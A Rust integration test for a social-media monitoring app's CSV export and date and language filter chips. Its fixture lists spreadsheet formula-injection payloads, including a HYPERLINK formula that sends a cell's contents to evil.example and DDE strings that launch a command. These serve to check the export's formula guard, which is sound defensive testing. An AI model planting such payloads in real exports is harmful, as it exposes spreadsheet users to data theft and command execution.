//! The inbox's CSV download (`/inbox.csv` under any filter) and the
//! drill-down filters a report's figures link to (`from`, `to`, `lang`),
//! shown to the officer as removable chips.

use placewatch::domain::csv::guard;
use placewatch::domain::outbox::TWEPOCH_MS;
use placewatch::domain::triage::Decision;
use time::macros::datetime;

use super::DeskTest;
use crate::store::{batch, matched, post};

use crate::engine::engines;
use placewatch::store::Engine;
use rstest_reuse::apply;

/// A post id X could have given a post made on 10 November 2026 at noon.
fn november_id(n: u64) -> u64 {
    let ms = (datetime!(2026-11-10 12:00 UTC).unix_timestamp_nanos() / 1_000_000) as i64;
    (((ms - TWEPOCH_MS) as u64) << 22) + n
}

/// Texts a spreadsheet or a CSV reader could be fooled by.
fn hostile() -> Vec<String> {
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your refund\")",
        "=cmd|' /C calc'!A0",
        "+44 20 7946 0000 call us",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTabbed =1+1",
        "\r=1+1",
        "\"Quoted\", with a comma, and \"\"doubled\"\" quotes",
        "line one\nline two\r\nline three\rline four",
        "\u{202E}gnp.exe \u{202D}right-to-left override",
        "bins in Croydon",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect()
}

/// The Big List of Naughty Strings (`tests/data/blns`).
fn naughty() -> Vec<String> {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/blns/blns.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

#[apply(engines)]
#[tokio::test]
async fn the_items_download_keeps_hostile_and_naughty_text_but_for_the_formula_guard(
    #[case] engine: Engine,
) {
    let Some(t) = DeskTest::on(engine).await else {
        return;
    };
    let mut texts = hostile();
    texts.extend(naughty());
    assert!(texts.len() > 500, "more than one page of the download");
    let tagged: Vec<_> = texts
        .iter()
        .enumerate()
        .map(|(n, text)| {
            let mut p = post(november_id(n as u64), text);
            p.created_at = Some("2026-11-10T12:00:00.000Z".into());
            let mut tp = matched(p, &["Croydon"]);
            tp.decision = Decision {
                tags: vec!["naughty".into()],
                ..Decision::default()
            };
            tp
        })
        .collect();
    let stored = t.store.record_pages(&batch("m", tagged)).await.unwrap();
    assert_eq!(stored.new_items.len(), texts.len());

    // A viewer may download what she may read.
    let vic = t.login("vic").await;
    let r = vic.get("/inbox.csv?status=all&tag=naughty").await;
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.headers()["content-type"].to_str().unwrap(),
        "text/csv; charset=utf-8"
    );
    let disposition = r.headers()["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"placewatch-items-"),
        "{disposition}"
    );
    let body = r.bytes().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(body.as_ref());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        [
            "item id",
            "posted",
            "author handle",
            "author name",
            "text",
            "places",
            "tags",
            "status",
            "priority",
            "reply path",
            "owner",
            "team",
            "language",
            "link"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), texts.len(), "every item, on every page");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
    // Newest post first: the last text first.
    for (row, (n, text)) in rows.iter().zip(texts.iter().enumerate().rev()) {
        assert_eq!(&row[4], guard(text).as_ref(), "text {n}");
        assert_eq!(&row[1], "2026-11-10T12:00:00.000Z");
        assert_eq!(&row[2], "resident_a");
        assert_eq!(&row[5], "Croydon");
        assert_eq!(&row[6], "naughty");
        assert_eq!(&row[7], "new");
        assert_eq!(&row[12], "en");
        assert_eq!(
            row[13],
            format!("https://x.com/i/web/status/{}", november_id(n as u64))
        );
    }
    // A filter narrows the download as it narrows the list.
    let r = vic
        .get("/inbox.csv?status=all&tag=naughty&q=%22doubled%22")
        .await;
    let body = r.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{body}");
    assert_eq!(&rows[0][4], hostile()[7]);
    t.stop().await;
}

#[apply(engines)]
#[tokio::test]
async fn a_report_link_narrows_the_inbox_and_says_so(#[case] engine: Engine) {
    let Some(t) = DeskTest::on(engine).await else {
        return;
    };
    let tagged: Vec<_> = (0..3)
        .map(|n| {
            let mut p = post(november_id(n), "bins in Croydon");
            p.lang = Some(if n == 0 { "cy" } else { "en" }.into());
            let mut tp = matched(p, &["Croydon"]);
            tp.decision = Decision {
                tags: vec!["drill".into()],
                ..Decision::default()
            };
            tp
        })
        .collect();
    t.store.record_pages(&batch("m", tagged)).await.unwrap();
    let sam = t.login("sam").await;

    let html = sam
        .get("/?status=all&from=2026-11-01&to=2026-11-30&tag=drill&lang=cy")
        .await
        .text()
        .await
        .unwrap();
    // The chips, each removing its own filter and keeping the rest.
    assert!(
        html.contains("Posted 1–30 Nov 2026 <a href=\"/?status=all&#38;tag=drill&#38;lang=cy\">"),
        "{html}"
    );
    assert!(
        html.contains("Language: Welsh (cy) <a href=\"/?status=all&#38;tag=drill&#38;from=2026-11-01&#38;to=2026-11-30\">"),
        "{html}"
    );
    // The form shows them too, and the list holds the one Welsh item.
    assert!(html.contains("name=\"from\" type=\"date\" value=\"2026-11-01\""));
    assert!(html.contains("name=\"lang\" value=\"cy\""));
    assert_eq!(html.matches("class=\"item ").count(), 1, "{html}");
    assert!(html.contains(
        "<a href=\"/inbox.csv?status=all&#38;tag=drill&#38;from=2026-11-01&#38;to=2026-11-30&#38;lang=cy\">Download CSV</a>"
    ));
    // A different month lists none of them.
    let html = sam
        .get("/?status=all&from=2026-10-01&to=2026-10-31&tag=drill")
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains("No items match."), "{html}");

    // Days that are not days, backwards, or a language that is not one.
    for bad in [
        "/?from=2026-13-01",
        "/?to=30%2F11%2F2026",
        "/?from=2026-11-30&to=2026-11-01",
        "/?lang=%3Cscript%3E",
        "/inbox.csv?from=yesterday",
    ] {
        assert_eq!(sam.get(bad).await.status(), 400, "{bad}");
    }
    t.stop().await;
}
